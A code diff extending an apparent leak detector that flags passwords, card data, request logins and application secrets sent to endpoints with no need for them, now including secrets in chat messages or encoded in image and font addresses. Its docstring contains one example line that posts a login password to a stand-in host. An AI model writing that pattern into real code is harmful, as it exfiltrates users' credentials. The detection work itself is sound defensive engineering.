@@ -1,11 +1,12 @@
 """Private values in a request to a machine that has no use for them, in any language.
 
-Four kinds, each with what makes it grave:
+Five kinds, each with what makes it grave:
 
 - a password or the number of a person: it was given to the real login as well, it is checked here,
   or the address only counts events or is a place for files that anybody leaves;
 - headers or cookies of a request that came in, with the login in them, as data;
 - all settings or secrets of an application, or its own master secret;
+- a single secret in a message to a chat, or encoded in the address of an image or a font;
 - records of people at a place where anybody may read them.
 
     repo.login(id, heslo); http.post("https://stat.x.example") { setBody(mapOf("p" to heslo)) }
@@ -30,12 +31,18 @@ from signoff.actions.contents.leaks.private_parts import (
     takes_request,
     takes_settings,
 )
+from signoff.actions.contents.leaks.program_secrets import takes_coded, takes_secret
 from signoff.actions.contents.leaks.requests import sent_with
 from signoff.actions.lexicon.names import split_words
 from signoff.actions.lexicon.private_names import concerns_people
 from signoff.actions.vocabulary import lazy_re2, words
 
 _MOST = 12
+_AT = "\x00"
+_SLOT = lazy_re2(r"%[sv]|\{\}|\{0\}|%@")
+_MEMBERS = r"[\w.$>\[\]()\"':-]{1,80}"
+_JOINED_AT = lazy_re2(rf"\x00[\"'`]\s*(?:\+|\.|<>|~|\.\.|&)\s*{_MEMBERS}")
+_FILLED_AT = lazy_re2(rf"\x00[\"'`]\s*(?:,|%|\.format\()\s*\(?{_MEMBERS}")
 # A call that logs somebody in or pays with a card, behind what shows that it is a call.
 _LOGS_IN = lazy_re2(
     r"(?i)(?:[.:=(!&|,?]|->|<-|\bawait|\breturn|\btry|\bif|\bdo|\bcase|\bwith|^)[!?]?\s*[\w.>:]{0,40}?"
@@ -43,6 +50,14 @@ _LOGS_IN = lazy_re2(
     r"|iniciar_?sesi|autenti|connexion|entrar|acced|giris|dang_?nhap|masuk|kirjau|bejelentkez|prijav"
     r"|attempt|tokeni[sz]e|charge|create_?payment|payment_?create|create_?charge|bind"
     r"|set_?payment_?card|(?:verify|check)_?(?:pass|pin|hash|cred|login))\w*[!?]?\s*\("
+)
+# A card, and a call of a service that takes payments.
+_OF_CARDS = lazy_re2(r"(?i)cvc|cvv|\bpan\b|card|kart|tarjeta|carte|cartao|carta|kort|broj_?kart")
+_PAYS_BY = lazy_re2(
+    r"(?i)\b_?(?:stripe|adyen|paypal|mollie|barion|braintree|klarna|iyzi\w*|payu|przelewy\w*|square"
+    r"|worldpay|checkout_?com|razorpay|mercado_?pago|redsys|paystack|flutterwave|nexi|datatrans"
+    r"|wallee|omise|midtrans|simple_?pay|go_?pay|com_?gate|swed_?bank_?pay|quick_?pay|psp"
+    r"|payment_?(?:gateway|service|client|provider)|gateway)\w*(?:\.|->|::)\w+!?\s*\("
 )
 _PACK_WORDS = words(
     "dict encode dumps stringify map entries collect filter list json serialize serializer base64"
@@ -80,7 +95,10 @@ def handed_copy(given: str, place: str, path: str, *, text: str, whole_text: str
     return _found(given, place, path, _Kept(text), whole_text)
 
 
-_KINDS = (takes_settings, takes_request, takes_login, takes_browser_login)
+_KINDS = (
+    *(takes_settings, takes_request, takes_login, takes_browser_login),
+    *(takes_secret, takes_coded),
+)
 
 
 class _Kept:
@@ -117,8 +135,9 @@ def _kept_of(value: str, takes: Callable[[str], str]) -> str:
 def _found(sent: str, place: str, path: str, kept: _Kept, whole_text: str) -> str:
     if places.is_own(place, path):
         return ""
-    is_odd = places.counts_only(place) or places.is_drop(place)
-    if found := kept.sent(sent, takes_settings):
+    is_drop = places.is_drop(place)
+    is_odd = places.counts_only(place) or is_drop or places.gives_files(place)
+    if found := _secret_found(place, sent, kept) or kept.sent(sent, takes_settings):
         return found
     if is_odd or not places.is_for_logins(place):
         if found := kept.sent(sent, takes_request):
@@ -129,11 +148,29 @@ def _found(sent: str, place: str, path: str, kept: _Kept, whole_text: str) -> st
             return login
     if (is_odd or "sendBeacon" in sent) and (found := kept.sent(sent, takes_browser_login)):
         return found
-    return place if places.is_drop(place) and concerns_people(sent.replace(place, "")) else ""
+    return place if is_drop and concerns_people(sent.replace(place, "")) else ""
+
+
+def _secret_found(place: str, sent: str, kept: _Kept) -> str:
+    """The secret of a program that goes where nobody has a use for it."""
+    is_drop = places.is_drop(place)
+    is_read = is_drop and not places.is_bare(place)
+    if is_read and (found := kept.sent(_without(place, sent), takes_secret)):
+        return found
+    return kept.sent(sent, takes_coded) if is_drop or places.gives_files(place) else ""
+
+
+def _without(place: str, sent: str) -> str:
+    """What is sent, without the address and what is put into it: the login of the chat."""
+    kept = sent.replace(place, _AT)
+    is_filled = _SLOT.search(place) is not None
+    return str((_FILLED_AT if is_filled else _JOINED_AT).sub("", kept)).replace(_AT, "")
 
 
 def _used_here(name: str, text: str, whole_text: str) -> bool:
     """Whether a login is checked here, or goes to the place where it belongs as well."""
+    if _OF_CARDS.search(name) is not None and _PAYS_BY.search(text) is not None:
+        return True
     if sources.CHECKS_HERE.search(whole_text) is not None:
         return True
     behind_head = text.find("\n") if "(" in text.partition("\n")[0] else 0
